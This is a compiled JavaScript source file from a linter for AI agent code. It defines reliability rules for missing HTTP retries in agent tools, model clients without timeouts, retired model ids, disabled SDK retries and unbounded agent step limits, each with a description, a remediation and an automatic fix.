var missingRetryOnHttpToolCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/missing-retry-on-http-tool",
	title: "Agent tool calls an HTTP API with no retry",
	description: "A function the agent calls as a tool (decorated `@tool`/`@function_tool`, a CrewAI BaseTool `_run`, or listed in `tools=[...]`) calls `requests`/`httpx` directly with no retry: no tenacity/backoff/stamina decorator, no urllib3 `Retry` adapter or httpx transport retries, no try/except retry loop. requests and httpx do not retry by default, so one 502, reset connection or 429 from the API fails the tool call and the model improvises around the error. Model SDK calls are not flagged: they retry by default.",
	severity: "warning",
	fixability: "one-click",
	tags: ["ASI08", "ASI02"],
	remediation: "Wrap the tool in a bounded retry on transient errors only, e.g. `@retry(retry=retry_if_exception_type(httpx.TransportError), stop=stop_after_attempt(3), wait=wait_exponential(multiplier=1, max=10), reraise=True)` (requests: `requests.exceptions.ConnectionError, requests.exceptions.Timeout`; retry 429/5xx statuses too only if the tool raises them, never every HTTPStatusError), or use a session with `HTTPAdapter(max_retries=Retry(total=3, backoff_factor=0.5, status_forcelist=[429, 502, 503, 504]))` / `httpx.HTTPTransport(retries=3)`. Retry only idempotent requests.",
	docs: "https://tenacity.readthedocs.io/en/latest/",
	frameworks: [
		"google-adk",
		"openai-agents",
		"langchain",
		"crewai",
		"pydantic-ai",
		"smolagents",
		"mcp"
	],
	knows: ["tools: `@tool` / `@function_tool` / `@tool_plain` decorators, CrewAI `BaseTool._run`/`_arun`, functions listed in `tools=[...]`", "HTTP: requests and httpx; retries recognised: tenacity, backoff, stamina, retrying, urllib3 `Retry` via `HTTPAdapter`, httpx transport retries"],
	precision: "medium"
}, {
	appliesTo: isPython,
	textHas: [/requests|httpx/, /tool/i],
	textLacks: [TRANSPORT_RETRY],
	async runOnTree(context, tree) {
		const { file } = context;
		const imports = pythonImportMap(tree);
		const listed = toolNames(tree);
		const namesTaken = tenacityNamesTaken(tree, imports);
		for (const fn of tree.rootNode.descendantsOfType("function_definition")) {
			const name = fn.childForFieldName("name")?.text ?? "";
			const decorators = decoratorsOf(fn).map(decoratorName);
			if (!(decorators.some((decorator) => TOOL_DECORATOR.test(decorator)) || listed.has(name) || isCrewAiToolRun(fn)) || decorators.some((decorator) => RETRY_DECORATOR.test(decorator))) continue;
			const body = fn.childForFieldName("body");
			if (!body) continue;
			const httpCalls = descendantsInScope(body, ["call"], PY_NESTED_SCOPES).filter((call) => HTTP_CALL.test(importedCallee(call, imports) ?? "") && !inRetryLoop(call, fn));
			const http = httpCalls[0];
			if (!http) continue;
			const callee = qualifiedCallee(http, imports);
			const errors = transientErrors(new Set(httpCalls.map((call) => importedCallee(call, imports).startsWith("httpx.") ? "httpx" : "requests")), tree, imports);
			const fix = namesTaken || !errors ? void 0 : retryDecoratorFix(fn, file.text, context.heal, errors);
			context.report({
				start: http.startIndex,
				end: http.childForFieldName("arguments")?.startIndex ?? http.endIndex,
				message: `Tool '${name}' calls ${callee}(...) with no retry, and requests/httpx do not retry by default, so one transient 5xx, 429 or reset fails the tool call.`,
				fingerprintContent: `${name}:${callee}`,
				...fix ? { fix } : { fixability: "structural" }
			});
		}
	}
});
// src/rules/reliability/model-client-no-timeout.ts
/** `60000` → `60_000`, the way the SDK docs write milliseconds. */
function milliseconds(seconds) {
	return String(seconds * 1e3).replace(/\B(?=(\d{3})+(?!\d))/g, "_");
}
var OPENAI_DEFAULT = { defaultText: "the openai SDK default of 600 s (10 min) per attempt, retried twice" };
var ANTHROPIC_DEFAULT = { defaultText: "the anthropic SDK default of 600 s (10 min) per attempt, retried twice" };
var LC_OPENAI_DEFAULT = { defaultText: "timeout=None, which falls back to the openai SDK default of 600 s (10 min) per attempt" };
var LC_ANTHROPIC_DEFAULT = {
	defaultText: "default_request_timeout=None, which falls back to the anthropic SDK default of 600 s (10 min) per attempt",
	keyword: "default_request_timeout"
};
/** Python constructors (resolved through imports) and what their missing timeout means. */
var PYTHON_CLIENTS = {
	"openai.OpenAI": OPENAI_DEFAULT,
	"openai.AsyncOpenAI": OPENAI_DEFAULT,
	"openai.AzureOpenAI": OPENAI_DEFAULT,
	"openai.AsyncAzureOpenAI": OPENAI_DEFAULT,
	"anthropic.Anthropic": ANTHROPIC_DEFAULT,
	"anthropic.AsyncAnthropic": ANTHROPIC_DEFAULT,
	"anthropic.AnthropicVertex": ANTHROPIC_DEFAULT,
	"anthropic.AsyncAnthropicVertex": ANTHROPIC_DEFAULT,
	"anthropic.AnthropicBedrock": ANTHROPIC_DEFAULT,
	"anthropic.AsyncAnthropicBedrock": ANTHROPIC_DEFAULT,
	"langchain_openai.ChatOpenAI": LC_OPENAI_DEFAULT,
	"langchain_openai.AzureChatOpenAI": LC_OPENAI_DEFAULT,
	"langchain_openai.chat_models.ChatOpenAI": LC_OPENAI_DEFAULT,
	"langchain_openai.chat_models.AzureChatOpenAI": LC_OPENAI_DEFAULT,
	"langchain_anthropic.ChatAnthropic": LC_ANTHROPIC_DEFAULT,
	"langchain_anthropic.chat_models.ChatAnthropic": LC_ANTHROPIC_DEFAULT
};
/** `timeout` (SDKs), `request_timeout` (ChatOpenAI field name), `default_request_timeout` (ChatAnthropic field name). */
var PYTHON_TIMEOUT_KEYWORDS = [
	"timeout",
	"request_timeout",
	"default_request_timeout"
];
var LCJS_OPENAI = { defaultText: "no timeout, which falls back to the openai SDK default of 600000 ms (10 min) per attempt" };
/**
* TypeScript constructors as `module#export`. LangChain.js (checked against langchainjs main, Aug 2026:
* @langchain/openai 1.5, @langchain/anthropic 1.5, @langchain/google-genai 2.2, @langchain/deepseek):
* ChatOpenAI and the classes built on it take `timeout`; ChatAnthropic hands `clientOptions` to the
* Anthropic SDK (no `timeout` field of its own); ChatGoogleGenerativeAI takes none, and the
* @google/generative-ai SDK it wraps sets no request timeout at all.
*/
var TS_CLIENTS = {
	"openai#default": { defaultText: "the openai SDK default of 600000 ms (10 min) per attempt, retried twice" },
	"openai#OpenAI": { defaultText: "the openai SDK default of 600000 ms (10 min) per attempt, retried twice" },
	"openai#AzureOpenAI": { defaultText: "the openai SDK default of 600000 ms (10 min) per attempt, retried twice" },
	"@anthropic-ai/sdk#default": { defaultText: "the anthropic SDK default of 600000 ms (10 min) per attempt, retried twice" },
	"@anthropic-ai/sdk#Anthropic": { defaultText: "the anthropic SDK default of 600000 ms (10 min) per attempt, retried twice" },
	"@langchain/openai#ChatOpenAI": LCJS_OPENAI,
	"@langchain/openai#AzureChatOpenAI": LCJS_OPENAI,
	"@langchain/deepseek#ChatDeepSeek": LCJS_OPENAI,
	"@langchain/anthropic#ChatAnthropic": {
		defaultText: "no clientOptions.timeout, which falls back to the anthropic SDK default of 600000 ms (10 min) per attempt",
		tsOption: "clientOptions"
	},
	"@langchain/google-genai#ChatGoogleGenerativeAI": {
		defaultText: "no limit: neither the class nor the @google/generative-ai SDK under it sets a request timeout",
		tsOption: "none"
	}
};
/** Request methods that accept a per-call `timeout=`: a file that sets one has thought about timeouts. */
var PER_REQUEST = /\.(create|parse|stream|invoke|ainvoke)$/;
/** LangChain.js call options (`invoke(x, { timeout })`, `.withConfig({ timeout })`, a `signal`) bound every call of the model. */
var TS_PER_REQUEST = /\.(create|parse|stream|invoke|batch|streamEvents)$/;
function tsPerRequestTimeout(call) {
	const written = tsCalleeText(call);
	const options = /\.(withConfig|bind)$/.test(written) ? tsArguments(call)[0] : TS_PER_REQUEST.test(written) ? tsArguments(call)[1] : void 0;
	return objectProperty(options, "timeout") !== void 0 || /\.(invoke|stream|batch|withConfig)$/.test(written) && objectProperty(options, "signal") !== void 0;
}
function pythonCheck(tree, imports, report) {
	const all = calls(tree);
	if (all.some((call) => PER_REQUEST.test(call.childForFieldName("function")?.text ?? "") && keywordArgument(call, "timeout") !== void 0)) return;
	for (const call of all) {
		const name = qualifiedCallee(call, imports);
		const client = PYTHON_CLIENTS[name];
		if (!client) continue;
		if (hasDictSplat(call)) continue;
		if (PYTHON_TIMEOUT_KEYWORDS.some((keyword) => keywordArgument(call, keyword) !== void 0)) continue;
		if (keywordArgument(call, "http_client") !== void 0 || keywordArgument(call, "http_async_client") !== void 0) continue;
		const parent = call.parent;
		if (parent?.type === "attribute" && parent.childForFieldName("attribute")?.text === "with_options") continue;
		report(call, name.split(".").pop(), client);
	}
}
/** True when a nested options object (`configuration`, `clientOptions`) may carry a timeout. */
function nestedHasTimeout(nested) {
	return nested.type !== "object" || hasSpread(nested) || objectProperty(nested, "timeout") !== void 0 || objectProperty(nested, "fetch") !== void 0;
}
function optionsHaveTimeout(options, client) {
	if (!options) return false;
	if (options.type !== "object") return true;
	if (hasSpread(options)) return true;
	if (client.tsOption === "none") return false;
	if (client.tsOption === "clientOptions") {
		const clientOptions = objectProperty(options, "clientOptions");
		return clientOptions !== void 0 && nestedHasTimeout(clientOptions) || objectProperty(options, "createClient") !== void 0;
	}
	if (objectProperty(options, "timeout") !== void 0 || objectProperty(options, "httpAgent") !== void 0 || objectProperty(options, "fetch") !== void 0) return true;
	const configuration = objectProperty(options, "configuration");
	return configuration !== void 0 && nestedHasTimeout(configuration);
}
/**
* `timeout: 60_000` into the options object, or `{ timeout: 60_000 }` as the only argument; for
* ChatAnthropic `timeout` goes into `clientOptions` (added when missing). No fix where the class has no option.
*/
function tsTimeoutFix(call, options, text, shown, seconds, client) {
	const value = milliseconds(seconds);
	if (client.tsOption === "none") return void 0;
	if (client.tsOption === "clientOptions") {
		if (options?.type !== "object") return void 0;
		const description = `clientOptions.timeout: ${value} (ms) on ${shown}(...)`;
		const clientOptions = objectProperty(options, "clientOptions");
		const edits = clientOptions ? clientOptions.type === "object" ? addObjectProperty(clientOptions, text, "timeout", value) : void 0 : addObjectProperty(options, text, "clientOptions", `{ timeout: ${value} }`);
		return edits ? {
			description,
			edits
		} : void 0;
	}
	const description = `timeout: ${value} (ms) on ${shown}(...)`;
	if (options) {
		const edits = options.type === "object" ? addObjectProperty(options, text, "timeout", value) : void 0;
		return edits ? {
			description,
			edits
		} : void 0;
	}
	const args = call.childForFieldName("arguments");
	const argument = `{ timeout: ${value} }`;
	if (!args) {
		const target = call.childForFieldName("constructor");
		return target ? {
			description,
			edits: [{
				start: target.endIndex,
				end: target.endIndex,
				text: `(${argument})`
			}]
		} : void 0;
	}
	if (!/^\(\s*\)$/.test(args.text)) return void 0;
	return {
		description,
		edits: [{
			start: args.startIndex,
			end: args.endIndex,
			text: `(${argument})`
		}]
	};
}
var modelClientNoTimeoutCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/model-client-no-timeout",
	title: "Model client without a request timeout",
	description: "An OpenAI, Anthropic or LangChain chat-model client is constructed without a timeout. The OpenAI and Anthropic SDKs (Python and TypeScript) default to 10 minutes per attempt and retry twice, so one hung provider connection can stall an agent turn, a tool call or a request worker for up to half an hour and pile up in-flight requests behind it.",
	severity: "warning",
	fixability: "one-click",
	tags: [
		"ASI08",
		"LLM10:2025",
		"CWE-1088",
		"CWE-400"
	],
	remediation: "Pass an explicit timeout sized to the call: `OpenAI(timeout=30.0)` or `httpx.Timeout(30.0, connect=5.0)`, `ChatOpenAI(timeout=30)`, `ChatAnthropic(default_request_timeout=30)`, `new OpenAI({ timeout: 30_000 })`; LangChain.js: `new ChatOpenAI({ timeout: 30_000 })`, `new ChatAnthropic({ clientOptions: { timeout: 30_000 } })`, and for classes without an option (ChatGoogleGenerativeAI) `model.withConfig({ timeout: 30_000 })` or `invoke(input, { timeout })`. Streaming and long reasoning calls may need more; set that per request with `with_options(timeout=...)`.",
	docs: "https://github.com/openai/openai-python#timeouts",
	frameworks: [
		"openai-sdk",
		"anthropic-sdk",
		"langchain"
	],
	knows: [
		"openai (Python 1.x, TS 4.x–6.x): `timeout`, default 600 s, 2 retries; `with_options(timeout=...)`, `http_client`",
		"anthropic (Python, TS): `timeout`, default 600 s, 2 retries",
		"langchain-openai `ChatOpenAI(timeout= | request_timeout=)`, langchain-anthropic `ChatAnthropic(default_request_timeout=)`",
		"LangChain.js: @langchain/openai `ChatOpenAI`/`AzureChatOpenAI` and @langchain/deepseek `ChatDeepSeek` `{ timeout }` or `configuration.timeout`; @langchain/anthropic 1.x `ChatAnthropic` `clientOptions.timeout`; @langchain/google-genai 2.x `ChatGoogleGenerativeAI` has no option (`withConfig({ timeout })`)"
	],
	precision: "high"
}, {
	textHas: [/OpenAI|Anthropic|ChatGoogleGenerativeAI|ChatDeepSeek/],
	async runOnTree(context, tree) {
		const { file } = context;
		const report = (node, name, client, fix) => context.report({
			...spanOf(node),
			message: client.tsOption === "none" ? `${name}(...) has no request timeout (${client.defaultText}), so a stalled provider connection holds the agent turn until the socket gives up; bound it with withConfig({ timeout }).` : `${name}(...) is constructed without a timeout, so each request waits up to ${client.defaultText}.`,
			fingerprintContent: `${name}:no-timeout`,
			...fix ? { fix } : { fixability: "structural" }
		});
		if (isPython(file)) {
			pythonCheck(tree, pythonImportMap(tree), (call, name, client) => {
				const keyword = client.keyword ?? "timeout";
				const edit = addKeywordArgument(call, file.text, keyword, String(context.heal.modelTimeoutSeconds));
				report(call, name, client, edit ? {
					description: `${keyword}=${context.heal.modelTimeoutSeconds} on ${name}(...)`,
					edits: [edit]
				} : void 0);
			});
			return;
		}
		const imports = tsImportMap(tree);
		const all = callExpressions(tree);
		if (all.some(tsPerRequestTimeout)) return;
		for (const call of all) {
			if (call.type !== "new_expression") continue;
			const written = tsCalleeText(call);
			const client = TS_CLIENTS[imports.get(written) ?? ""];
			if (!client) continue;
			const options = tsArguments(call)[0];
			if (optionsHaveTimeout(options, client)) continue;
			report(call, `new ${written}`, client, tsTimeoutFix(call, options, file.text, `new ${written}`, context.heal.modelTimeoutSeconds, client));
		}
	}
});
// src/rules/reliability/retired-model.ts
/** Cheap prefilter: every retired family contains one of these. */
var FAMILIES = /davinci|curie|babbage|\bada\b|cushman|gpt-3\.5|gpt-4|chatgpt-4o|o1|o3-mini|o4-mini|codex-mini|claude|gemini|bison|unicorn/i;
var retiredModelCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/retired-model",
	title: "Retired model id",
	description: "A model id the provider has shut down (OpenAI, Anthropic or Google) is passed where a model is chosen: a `model=`/`model:` argument, a chat-model constructor, an AI SDK provider call or a `model:`/`llm:` key in YAML agent config. Requests to retired models fail at runtime (404/400), so the agent is down, not degraded.",
	severity: "error",
	fixability: "one-click",
	tags: ["ASI08", "LLM03:2025"],
	remediation: "Replace the id with the successor named in the finding (or the current model of your choice), pinned to a dated snapshot, and re-run your evals. Heal writes the successor id where one current id is certain (Anthropic and Gemini families), keeping the provider prefix; other findings (OpenAI, PaLM, preview successors) are structural.",
	docs: "https://platform.claude.com/docs/en/about-claude/model-deprecations",
	frameworks: [],
	knows: ["provider shutdown dates as of 2026-12-04: OpenAI deprecations page, Anthropic model deprecations page, Gemini API deprecations page (sources in retired-models.ts)", "model ids in `model=`/`model:` arguments, chat-model constructors, AI SDK provider calls, module constants and YAML `model:`/`llm:` keys"],
	precision: "very-high"
}, modelIdRule(FAMILIES, (id, written) => {
	const retired = retiredModel(written);
	if (!retired) return void 0;
	return {
		message: `Model '${id}' was retired by ${retired.provider} on ${retired.retired}, so every request to it fails; move to ${retired.successor}.`,
		fingerprintContent: `retired:${id}`,
		replacement: retired.replacement ? {
			id: retired.replacement,
			description: `model '${id}' → '${retired.replacement}'`
		} : void 0
	};
}));
// src/rules/reliability/retries-disabled.ts
/** Python constructors and their default retry count. */
var PYTHON_DEFAULTS = {
	"openai.OpenAI": "the openai SDK default of 2 retries with backoff",
	"openai.AsyncOpenAI": "the openai SDK default of 2 retries with backoff",
	"openai.AzureOpenAI": "the openai SDK default of 2 retries with backoff",
	"openai.AsyncAzureOpenAI": "the openai SDK default of 2 retries with backoff",
	"anthropic.Anthropic": "the anthropic SDK default of 2 retries with backoff",
	"anthropic.AsyncAnthropic": "the anthropic SDK default of 2 retries with backoff",
	"langchain_openai.ChatOpenAI": "the default of 2 retries (the openai SDK default)",
	"langchain_openai.AzureChatOpenAI": "the default of 2 retries (the openai SDK default)",
	"langchain_anthropic.ChatAnthropic": "the ChatAnthropic default of 2 retries",
	"langchain_google_genai.ChatGoogleGenerativeAI": "the ChatGoogleGenerativeAI default of 6 retries"
};
/** TypeScript constructors and AI SDK functions (`module#export`). */
var TS_DEFAULTS = {
	"openai#default": "the openai SDK default of 2 retries with backoff",
	"openai#OpenAI": "the openai SDK default of 2 retries with backoff",
	"openai#AzureOpenAI": "the openai SDK default of 2 retries with backoff",
	"@anthropic-ai/sdk#default": "the anthropic SDK default of 2 retries with backoff",
	"@anthropic-ai/sdk#Anthropic": "the anthropic SDK default of 2 retries with backoff",
	"@langchain/openai#ChatOpenAI": "the LangChain.js default of 6 retries",
	"@langchain/anthropic#ChatAnthropic": "the LangChain.js default of 6 retries",
	"ai#generateText": "the AI SDK default of 2 retries with exponential backoff",
	"ai#streamText": "the AI SDK default of 2 retries with exponential backoff",
	"ai#generateObject": "the AI SDK default of 2 retries with exponential backoff",
	"ai#streamObject": "the AI SDK default of 2 retries with exponential backoff",
	"ai#embed": "the AI SDK default of 2 retries with exponential backoff",
	"ai#embedMany": "the AI SDK default of 2 retries with exponential backoff"
};
/**
* Turning SDK retries off is right when something else retries or falls back: LangChain
* `with_fallbacks`/`with_retry`, tenacity, backoff, stamina. Then the file is left alone.
*/
var OTHER_RETRY = /with_fallbacks|withFallbacks|with_retry|withRetry|tenacity|\bbackoff\b|stamina|p-retry|async-retry|\bretry\(/;
var retriesDisabledCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/retries-disabled",
	title: "Model SDK retries switched off",
	description: "A model client or AI SDK call sets max_retries / maxRetries to 0. The SDKs retry connection errors, 408/409/429 and 5xx responses with backoff by default (OpenAI and Anthropic SDKs and the AI SDK: 2 retries); with 0 every rate limit or transient provider error fails the agent turn. Files that retry or fall back another way (with_fallbacks, with_retry, tenacity, backoff) are not flagged.",
	severity: "warning",
	fixability: "one-click",
	tags: ["ASI08"],
	remediation: "Remove `max_retries=0` / `maxRetries: 0` to get the SDK default, or set a small positive value; if you disabled retries to fail over fast, add the fallback (`llm.with_fallbacks([...])`).",
	docs: "https://github.com/openai/openai-python#retries",
	frameworks: [
		"openai-sdk",
		"anthropic-sdk",
		"langchain",
		"vercel-ai-sdk"
	],
	knows: [
		"openai and anthropic SDKs (Python, TS): `max_retries` / `maxRetries`, default 2",
		"langchain-openai / langchain-anthropic / langchain-google-genai `max_retries`; LangChain.js `maxRetries` (default 6)",
		"ai 3.x–7.x: `maxRetries` on generateText/streamText/generateObject/streamObject/embed/embedMany (default 2)"
	],
	precision: "high"
}, {
	textHas: [/max_retries|maxRetries/],
	textLacks: [OTHER_RETRY],
	async runOnTree(context, tree) {
		const { file } = context;
		const report = (node, name, keyword, defaultText) => context.report({
			...spanOf(node),
			message: `${name}(...) sets ${keyword} to 0, replacing ${defaultText}, so one rate limit or transient provider error fails the call.`,
			fingerprintContent: `${name}:${keyword}=0`,
			fix: {
				description: `${keyword}=${context.heal.modelMaxRetries}`,
				edits: [replaceNode(node, String(context.heal.modelMaxRetries))]
			}
		});
		if (isPython(file)) {
			const imports = pythonImportMap(tree);
			for (const call of calls(tree)) {
				const name = qualifiedCallee(call, imports);
				const value = keywordArgument(call, "max_retries");
				if (!value || numberValue(value) !== 0) continue;
				const defaultText = PYTHON_DEFAULTS[name] ?? (name.endsWith(".with_options") ? "the SDK default of 2 retries with backoff" : void 0);
				if (!defaultText) continue;
				report(value, name.split(".").pop(), "max_retries", defaultText);
			}
			return;
		}
		const imports = tsImportMap(tree);
		for (const call of callExpressions(tree)) {
			const written = tsCalleeText(call);
			const defaultText = TS_DEFAULTS[imports.get(written) ?? ""];
			if (!defaultText) continue;
			const value = objectProperty(tsArguments(call)[0], "maxRetries");
			if (!value || tsNumberValue(value) !== 0) continue;
			report(value, call.type === "new_expression" ? `new ${written}` : written, "maxRetries", defaultText);
		}
	}
});
// src/rules/reliability/unbounded-agent-steps.ts
/** Framework step limits: the default, and the largest value not flagged. */
var AGENT_LOOP_LIMITS = {
	langgraphRecursionLimit: {
		setting: "recursion_limit",
		framework: "LangGraph",
		defaultValue: 25,
		max: 100
	},
	openaiAgentsMaxTurns: {
		setting: "max_turns",
		framework: "OpenAI Agents SDK",
		defaultValue: 10,
		max: 50
	},
	crewaiMaxIter: {
		setting: "max_iter",
		framework: "CrewAI",
		defaultValue: 20,
		max: 50
	},
	langchainMaxIterations: {
		setting: "max_iterations",
		framework: "LangChain AgentExecutor",
		defaultValue: 15,
		max: 50
	},
	smolagentsMaxSteps: {
		setting: "max_steps",
		framework: "smolagents",
		defaultValue: 20,
		max: 50
	},
	pydanticAiRequestLimit: {
		setting: "request_limit",
		framework: "Pydantic AI UsageLimits",
		defaultValue: 50,
		max: 200
	},
	aiSdkStepCount: {
		setting: "isStepCount / stepCountIs / maxSteps",
		framework: "AI SDK",
		defaultValue: 1,
		max: 50
	}
};
var PY_EXECUTORS = /* @__PURE__ */ new Set([
	"langchain.agents.AgentExecutor",
	"langchain_classic.agents.AgentExecutor",
	"langchain.agents.agent.AgentExecutor",
	"langchain.agents.initialize_agent"
]);
var SMOL_AGENTS = /^smolagents\.(CodeAgent|ToolCallingAgent|MultiStepAgent)$/;
var RUNNER = /^agents\.Runner\.(run|run_sync|run_streamed)$/;
var unboundedAgentStepsCheck = defineRule({
	...RELIABILITY_BASE,
	id: "reliability/unbounded-agent-steps",
	title: "Agent step limit removed or set very high",
	description: "An agent framework step limit is switched off or raised far above its default: LangGraph `recursion_limit` > 100 (default 25), OpenAI Agents `max_turns` > 50 (default 10), CrewAI `max_iter` > 50 (default 20), LangChain AgentExecutor `max_iterations=None` or > 50 (default 15), smolagents `max_steps` > 50 (default 20), Pydantic AI `UsageLimits(request_limit=None)` or > 200 (default 50), AI SDK `isStepCount(n)`/`stepCountIs(n)`/`maxSteps` > 50 or `stopWhen: isLoopFinished()` (default 1 step, ToolLoopAgent 20). The limit is what stops a tool-calling loop the model never ends; without it a confused or injected agent burns tokens and rate limit until something else fails. Limits held in variables are not judged.",
	severity: "warning",
	fixability: "one-click",
	tags: [
		"LLM10:2025",
		"ASI08",
		"CWE-400",
		"CWE-835"
	],
	remediation: "Keep the limit near the default and size it to the longest legitimate task (measure it); pair it with a wall-clock or token budget. Handle the limit error (GraphRecursionError, MaxTurnsExceeded) explicitly.",
	docs: "https://docs.langchain.com/oss/python/langgraph/errors/GRAPH_RECURSION_LIMIT",
	frameworks: [
		"langgraph",
		"openai-agents",
		"crewai",
		"langchain",
		"smolagents",
		"pydantic-ai",
		"vercel-ai-sdk"
	],
	knows: [
		...AI_SDK_VERSIONS_KNOWN,
		"LangGraph (langchain-core): `recursion_limit` default 25; LangGraph.js `recursionLimit`",
		"OpenAI Agents SDK (Python and JS): `max_turns` / `maxTurns` default 10",
		"CrewAI: `Agent(max_iter=...)` and agents.yaml `max_iter`, default 20",
		"LangChain `AgentExecutor` (langchain and langchain_classic): `max_iterations` default 15",
		"smolagents: `max_steps` default 20; Pydantic AI `UsageLimits(request_limit=...)` default 50"
	],
	precision: "high"
}, {
	appliesTo: (file) => isPython(file) || isScript(file) || isYaml(file),
	textHas: [/recursion_limit|recursionLimit|max_turns|maxTurns|max_iter|max_steps|request_limit|stepCountIs|isStepCount|isLoopFinished|maxSteps/],
	async run(context) {
		const { file } = context;
		/**
		* The fix writes the framework default over the literal (number, None/null/Infinity). Not for the
		* AI SDK: its default of 1 step switches the tool loop off, which is a design change, not a bound.
		*/
		const fixFor = (literal, key) => {
			const limit = AGENT_LOOP_LIMITS[key];
			if (!literal || key === "aiSdkStepCount") return void 0;
			return {
				description: `${limit.setting}=${limit.defaultValue} (the ${limit.framework} default)`,
				edits: [{
					start: literal.startIndex,
					end: literal.endIndex,
					text: String(limit.defaultValue)
				}]
			};
		};
		const report = (node, key, value, where, literal) => {
			const limit = AGENT_LOOP_LIMITS[key];
			const shown = value === void 0 ? "None" : String(value);
			const fix = fixFor(literal, key);
			context.report({
				...spanOf(node),
				message: value === void 0 ? `${where} sets ${limit.setting}=None, removing the ${limit.framework} step limit (default ${limit.defaultValue}), so a looping agent never stops on its own.` : `${where} sets ${limit.setting} to ${shown}, far above the ${limit.framework} default of ${limit.defaultValue}, so a looping agent runs ${shown} model calls before it is stopped.`,
				fingerprintContent: `${key}:${shown}`,
				...fix ? { fix } : { fixability: "structural" }
			});
		};
		const LITERALS = /* @__PURE__ */ new Set([
			"integer",
			"float",
			"number",
			"none",
			"null"
		]);
		const judge = (node, key, where, allowNone, value) => {
			if (!node) return;
			const literal = LITERALS.has(node.type) || node.type === "identifier" && node.text === "Infinity" ? node : void 0;
			if (value !== void 0) {
				if (value > AGENT_LOOP_LIMITS[key].max) report(node, key, value, where, literal);
			} else if (allowNone && (node.type === "none" || node.type === "null" || node.text === "Infinity")) report(node, key, void 0, where, literal);
		};
		if (isYaml(file)) {
			if (!/agents\.ya?ml$/i.test(file.path)) return;
			for (const match of file.text.matchAll(/^[ \t]+max_iter[ \t]*:[ \t]*(\d+)[ \t]*(?:#.*)?$/gm)) {
				const value = Number(match[1]);
				if (value <= AGENT_LOOP_LIMITS.crewaiMaxIter.max) continue;
				const start = match.index + match[0].indexOf("max_iter");
				const digits = match.index + match[0].indexOf(match[1], match[0].indexOf(":"));
				report({
					startIndex: start,
					endIndex: match.index + match[0].length
				}, "crewaiMaxIter", value, "agents.yaml", {
					startIndex: digits,
					endIndex: digits + match[1].length
				});
			}
			return;
		}
		const tree = await context.tree();
		if (!tree) return;
		if (isPython(file)) {
			const imports = pythonImportMap(tree);
			const langgraph = /\b(langgraph|langchain)/.test(file.text);
			if (langgraph) for (const pair of tree.rootNode.descendantsOfType("pair")) {
				if (stringValue(pair.childForFieldName("key") ?? void 0) !== "recursion_limit") continue;
				const value = pair.childForFieldName("value") ?? void 0;
				judge(value, "langgraphRecursionLimit", "The run config", false, numberValue(value));
			}
			for (const call of calls(tree)) {
				const name = qualifiedCallee(call, imports);
				const method = lastSegment(calleeText(call));
				if (langgraph && (method === "with_config" || name === "langchain_core.runnables.RunnableConfig" || name.endsWith(".RunnableConfig"))) {
					const value = keywordArgument(call, "recursion_limit");
					judge(value, "langgraphRecursionLimit", `${method}(...)`, false, numberValue(value));
				} else if (RUNNER.test(name)) {
					const value = keywordArgument(call, "max_turns");
					judge(value, "openaiAgentsMaxTurns", `Runner.${method}(...)`, false, numberValue(value));
				} else if (name === "crewai.Agent") {
					const value = keywordArgument(call, "max_iter");
					judge(value, "crewaiMaxIter", "Agent(...)", false, numberValue(value));
				} else if (PY_EXECUTORS.has(name)) {
					const value = keywordArgument(call, "max_iterations");
					if (value?.type === "none" && keywordArgument(call, "max_execution_time") !== void 0) continue;
					judge(value, "langchainMaxIterations", `${lastSegment(name)}(...)`, true, numberValue(value));
				} else if (SMOL_AGENTS.test(name) || method === "run" && /\bsmolagents\b/.test(file.text)) {
					const value = keywordArgument(call, "max_steps");
					judge(value, "smolagentsMaxSteps", `${lastSegment(name)}(...)`, false, numberValue(value));
				} else if (/^pydantic_ai(\.usage)?\.UsageLimits$/.test(name)) {
					const value = keywordArgument(call, "request_limit");
					judge(value, "pydanticAiRequestLimit", "UsageLimits(...)", true, numberValue(value));
				}
			}
			return;
		}
		const imports = tsImportMap(tree);
		if (/@langchain\/langgraph/.test(file.text)) for (const pair of tree.rootNode.descendantsOfType("pair")) {
			if (pair.childForFieldName("key")?.text.replace(/['"]/g, "") !== "recursionLimit") continue;
			const value = pair.childForFieldName("value") ?? void 0;
			judge(value, "langgraphRecursionLimit", "The run config", false, tsNumberValue(value));
		}
		for (const call of callExpressions(tree)) {
			const resolved = tsQualifiedCallee(call, imports);
			if (isStepCountCall(call, imports)) {
				const value = tsArguments(call)[0];
				judge(value, "aiSdkStepCount", `${resolved.slice(3)}(...)`, false, tsNumberValue(value));
			} else if (AI_SDK_LOOP_CALLS.test(resolved)) {
				const name = resolved.slice(3);
				const options = tsOptions(call);
				if (/^(generateText|streamText)$/.test(name)) {
					const value = objectProperty(options, "maxSteps");
					judge(value, "aiSdkStepCount", `${name}(...)`, false, tsNumberValue(value));
				}
				const stopWhen = objectProperty(options, "stopWhen");
				if (stopWhen && neverStops(stopConditions(stopWhen, imports))) context.report({
					...spanOf(stopWhen),
					message: `${name}(...) sets stopWhen: isLoopFinished(), which never fires, removing the AI SDK step limit (default isStepCount(${name === "ToolLoopAgent" ? 20 : 1})), so the tool loop runs until the model stops calling tools.`,
					fingerprintContent: "aiSdkStepCount:isLoopFinished",
					fixability: "structural"
				});
			} else if (resolved === "@openai/agents#run") {
				const value = objectProperty(tsArguments(call)[2], "maxTurns");
				judge(value, "openaiAgentsMaxTurns", "run(...)", false, tsNumberValue(value));
			}
		}
	}
});
// src/rules/reliability/unbounded-loop-agent.ts
var MESSAGE = "has no max_iterations, and ADK runs a LoopAgent until a sub-agent escalates (exit_loop / escalate=True); a sub-agent that never escalates loops forever.";
function fixOf(description, edits) {
	if (!edits) return void 0;
	return {
		description,
		edits: Array.isArray(edits) ? edits : [edits]
	};
}
/**
* YAML agent config: `max_iterations: 10` as a line of its own right after `agent_class: LoopAgent`
* (both top-level keys). Structural when `max_iterations:` is there already with another value.
*/
function yamlFix(text, lineEndOffset, heal) {
	if (/^max_iterations[ \t]*:/m.test(text)) return void 0;
	const newline = text.includes("\r\n") ? "\r\n" : "\n";
	const lineText = `max_iterations: ${heal.loopAgentMaxIterations}`;
	const atEnd = lineEndOffset >= text.length;
	const insertAt = atEnd ? text.length : text.indexOf("\n", lineEndOffset) + 1;
	return fixOf(`${lineText} on the LoopAgent config`, {
		start: insertAt,
		end: insertAt,
		text: atEnd ? `${newline}${lineText}` : `${lineText}${newline}`
	});
}
